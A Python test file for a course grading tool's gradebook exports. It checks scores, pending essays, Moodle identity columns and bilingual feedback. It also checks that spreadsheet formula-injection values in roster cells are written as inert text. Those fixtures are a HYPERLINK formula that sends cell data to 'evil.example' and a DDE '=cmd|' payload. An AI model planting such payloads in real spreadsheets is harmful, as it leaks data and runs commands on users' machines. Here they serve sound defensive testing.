"""The gradebook as a teaching assistant reads it: every roster student in grades.csv, grades.xlsx
and moodle.csv (no submission: 0 and a status), a submission not on the roster marked and kept out
of Moodle, pending essay points shown as pending (never 0; no Moodle grade until graded), Moodle's
identity column chosen from the roster, a bilingual feedback column, and hostile roster cells and ids
written as text, never as formulas."""
import csv
import io
from pathlib import Path

import openpyxl
import pytest

from grader.core.classlist import ClassRecord, Enrolled, Standing
from grader.core.errors import ConfigError
from grader.core.result import AnswerResult, QuestionResult, RunError, Status, Student, StudentResult
from grader.core.text import Text
from grader.engine.class_book import class_record, gradebook, missing_share, notices
from grader.outputs.gradebook import write_gradebook
from grader.outputs.results import read_class_record, write_class_record, write_grades_csv

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ZWNJ = "\u200c"
QIDS = ["q1", "q2"]


def result(sid: str, auto: float, essay: float | None, auto_status: Status | None = None,
           names: tuple[str, str] = ("", "")) -> StudentResult:
    """q1: an automatic answer of 4 points; q2: an essay of 6 points, pending while `essay` is None."""
    q1 = QuestionResult("q1", Text("یک", "One"), 4,
                        [AnswerResult("a1", "numeric", 4, auto_status or Status.of_fraction(auto / 4), auto)])
    essay_answer = AnswerResult("e2", "manual", 6, Status.PENDING, by_person=True) if essay is None else \
        AnswerResult("e2", "manual", 6, Status.of_fraction(essay / 6), essay, by_person=True)
    q2 = QuestionResult("q2", Text("دو", "Two"), 6, [essay_answer])
    return StudentResult(Student(sid, *names), "hw9", 10, [q1, q2])


ROSTER = {e.id: e for e in [
    Enrolled("ana", "آنا", "Ana", "ana@example.edu", "9001", "ana.k"),
    Enrolled("ben", f"بن{ZWNJ}یامین", "Ben", "ben@example.edu", "", "ben.r"),
    Enrolled("dora", "دُرا", FORMULA, "=cmd|' /C calc'!A0", "9003", ""),  # hostile cells; handed in nothing
]}


def book(identity: str = "idnumber", roster: dict | None = ROSTER):
    results = [result("ana", 4, 5, names=("آنا", "Ana")), result("ben", 2, None), result("@intruder", 1, 1)]  # ids come cleaned from intake
    return gradebook(class_record(roster, identity), results, "hw9", QIDS, 10)


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_every_roster_student_is_in_grades_csv_with_a_status(tmp_path):
    write_grades_csv(tmp_path / "grades.csv", book())
    rows = read_csv(tmp_path / "grades.csv")
    assert rows[0] == ["id", "name", "q1", "q2", "total", "max_total", "manual_pending", "status"]
    assert rows[1:] == [
        ["'@intruder", "", "1", "1", "2", "10", "0", "not on roster"],
        ["ana", "Ana", "4", "5", "9", "10", "0", "graded"],
        ["ben", "Ben", "2", "pending", "2", "10", "6", "pending"],  # pending points: never a 0
        ["dora", "'" + FORMULA, "0", "0", "0", "10", "0", "no submission"],
    ]


def test_grades_xlsx_lists_the_same_students_as_text_cells(tmp_path):
    write_gradebook(tmp_path, book())
    ws = openpyxl.load_workbook(tmp_path / "grades.xlsx")["grades"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0] == ("id", "name_fa", "name_en", "q1", "q2", "total", "max_total", "manual_pending", "status")
    assert rows[1][0] == "@intruder" and ws["A2"].quotePrefix and rows[1][-1] == "not on roster"
    assert rows[3] == ("ben", f"بن{ZWNJ}یامین", "Ben", 2, "pending", 2, 10, 6, "pending")
    assert rows[4] == ("dora", "دُرا", FORMULA, 0, 0, 0, 10, 0, "no submission")
    dora = ws[5]
    assert dora[2].data_type == "s" and dora[2].quotePrefix  # a formula from the roster stays text
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["I3"].font.bold is not True and ws["I4"].font.bold and ws["I5"].font.bold  # not graded: stands out
    stats = {r[0]: r for r in openpyxl.load_workbook(tmp_path / "grades.xlsx")["questions"].iter_rows(values_only=True)}
    assert stats["q1"][4] == pytest.approx(7 / 3, abs=1e-4)  # the mean of three submissions: no 0 for dora


def moodle(tmp_path: Path, identity: str = "idnumber") -> list[list[str]]:
    write_gradebook(tmp_path, book(identity))
    return list(csv.reader(io.StringIO((tmp_path / "moodle.csv").read_text(encoding="utf-8"), newline="")))


def test_moodle_csv_roster_students_only_pending_gets_no_grade(tmp_path):
    rows = moodle(tmp_path)
    assert rows[0] == ["ID number", "hw9 total", "hw9 feedback"]
    # ben's roster row has no idnumber: his id stands in; the intruder is not in Moodle's class
    assert [(r[0], r[1]) for r in rows[1:]] == [("9001", "9"), ("ben", "-"), ("9003", "0")]
    feedback = {r[0]: r[2].split("\n") for r in rows[1:]}
    assert feedback["9001"] == ["q1: ۴ از ۴، q2: ۵ از ۶", "q1: 4/4, q2: 5/6"]
    assert feedback["ben"] == ["q1: ۲ از ۴، q2: در انتظار تصحیح (۶ نمره)", "q1: 2/4, q2: pending (6 points)"]
    assert feedback["9003"] == ["تحویلی دریافت نشد: صفر نمره.", "No submission: 0 points."]


def test_moodle_csv_by_email_neutralises_a_formula_and_leaves_out_who_has_none(tmp_path):
    rows = moodle(tmp_path, "email")
    assert rows[0][0] == "Email address"
    assert [r[0] for r in rows[1:]] == ["ana@example.edu", "ben@example.edu", "'=cmd|' /C calc'!A0"]
    rows = moodle(tmp_path, "username")
    assert rows[0][0] == "Username" and [r[0] for r in rows[1:]] == ["ana.k", "ben.r"]  # dora has none
    told = [n.en for n in notices(book("username"))]
    assert any("1 student(s) have no username in the roster" in n and "dora" in n for n in told), told


def test_without_a_roster_every_result_is_its_own_entry(tmp_path):
    write_gradebook(tmp_path, book(roster=None))
    assert (tmp_path / "moodle.csv").read_text(encoding="utf-8").splitlines()[1::2] == [
        "'@intruder,2,\"q1: ۱ از ۴، q2: ۱ از ۶", "ana,9,\"q1: ۴ از ۴، q2: ۵ از ۶", "ben,-,\"q1: ۲ از ۴، q2: در انتظار تصحیح (۶ نمره)"]
    assert {row.standing for row in book(roster=None).rows} == {Standing.GRADED, Standing.PENDING}


def test_an_identity_the_roster_cannot_give_stops_the_run_before_grading():
    with pytest.raises(ConfigError, match="needs a column username"):
        class_record({"x": Enrolled("x", email="x@example.edu")}, "username")
    with pytest.raises(ConfigError, match="needs a column email"):
        class_record(None, "email")
    with pytest.raises(ConfigError, match="must be one of"):
        class_record(ROSTER, "name_en")


def test_notices_name_the_absent_the_unknown_and_the_pending():
    told = notices(book())
    fa, en = [n.fa for n in told], [n.en for n in told]
    assert en[0] == "1 student(s) of the roster handed in nothing and get 0 points (status 'no submission'): dora"
    assert en[1].startswith("1 submission(s) under an id that the roster (students.csv) lacks were graded") \
        and en[1].endswith(": @intruder")
    assert en[2] == "1 student(s) have essay points pending: moodle.csv gives them no grade ('-') until those are graded."
    assert "دانشجوی فهرست کلاس چیزی تحویل نداده‌اند" in fa[0] and len(told) == 3  # no "wrong assignment" here


def test_a_run_where_most_answers_are_missing_is_told_it_may_be_the_wrong_assignment():
    missing = [result(f"s{i}", 0, 0, auto_status=Status.MISSING) for i in range(3)]
    faulty = result("s9", 0, 0, auto_status=Status.INTERNAL_ERROR)  # not counted either way
    assert missing_share([*missing, faulty]) == 1.0
    told = notices(gradebook(ClassRecord(), [*missing, faulty], "hw5", QIDS, 10))
    assert told[-1].en == "100% of the hand-ins hold almost none of the automatic answers: hw5 may be the wrong " \
                          "assignment for these submissions (--assignment)."
    assert "٪۱۰۰" not in told[-1].fa and "۱۰۰٪" in told[-1].fa
    half = [*missing[:1], result("s1", 4, 0), result("s2", 4, 0), result("s3", 4, 0)]
    assert missing_share(half) == 0.25 and not any("wrong assignment" in n.en for n in notices(
        gradebook(ClassRecord(), half, "hw5", QIDS, 10)))
    partial = [result(f"p{i}", 0, 0, auto_status=Status.MISSING) for i in range(3)]
    for r in partial:  # a real partial hand-in: two of its three automatic answers missing, one there
        r.questions[0].answers += [AnswerResult("a2", "numeric", 4, Status.MISSING, 0),
                                   AnswerResult("a3", "numeric", 4, Status.PASSED, 4)]
    assert missing_share(partial) == 0.0 and not any("wrong assignment" in n.en for n in notices(
        gradebook(ClassRecord(), partial, "hw4", QIDS, 10)))


def test_ids_differing_in_case_or_normalisation_are_one_student():
    roster = {"e": Enrolled("Zoe\u0301", "زوئه", "Zoé")}  # decomposed é, capital Z
    rows = gradebook(class_record(roster, "idnumber"), [result("zo\u00e9", 4, 6)], "hw9", QIDS, 10).rows
    assert [(r.student.id, r.standing, r.student.name_en) for r in rows] == [("zo\u00e9", Standing.GRADED, "Zoé")]


def test_the_class_record_round_trips_and_a_missing_one_is_empty(tmp_path):
    assert read_class_record(tmp_path) == ClassRecord()
    record = class_record(ROSTER, "email")
    write_class_record(tmp_path, record)
    assert read_class_record(tmp_path) == record
    (tmp_path / "class.json").write_text('{"roster": 5, "moodle_identity": "=1+1"}')
    assert read_class_record(tmp_path) == ClassRecord()


def test_a_hand_in_that_could_not_be_run_says_so_before_pending(tmp_path):
    """Two hand-ins for one id, say: 0 points that are not what the student knows, and a TA must look."""
    clash = result("eve", 0, None, auto_status=Status.ERROR)
    clash.errors.append(RunError("duplicate_id", Text("دو تحویل", "Two hand-ins")))
    write_grades_csv(tmp_path / "grades.csv", gradebook(ClassRecord(), [clash], "hw9", QIDS, 10))
    assert read_csv(tmp_path / "grades.csv")[1] == ["eve", "", "0", "pending", "0", "10", "6", "run error"]
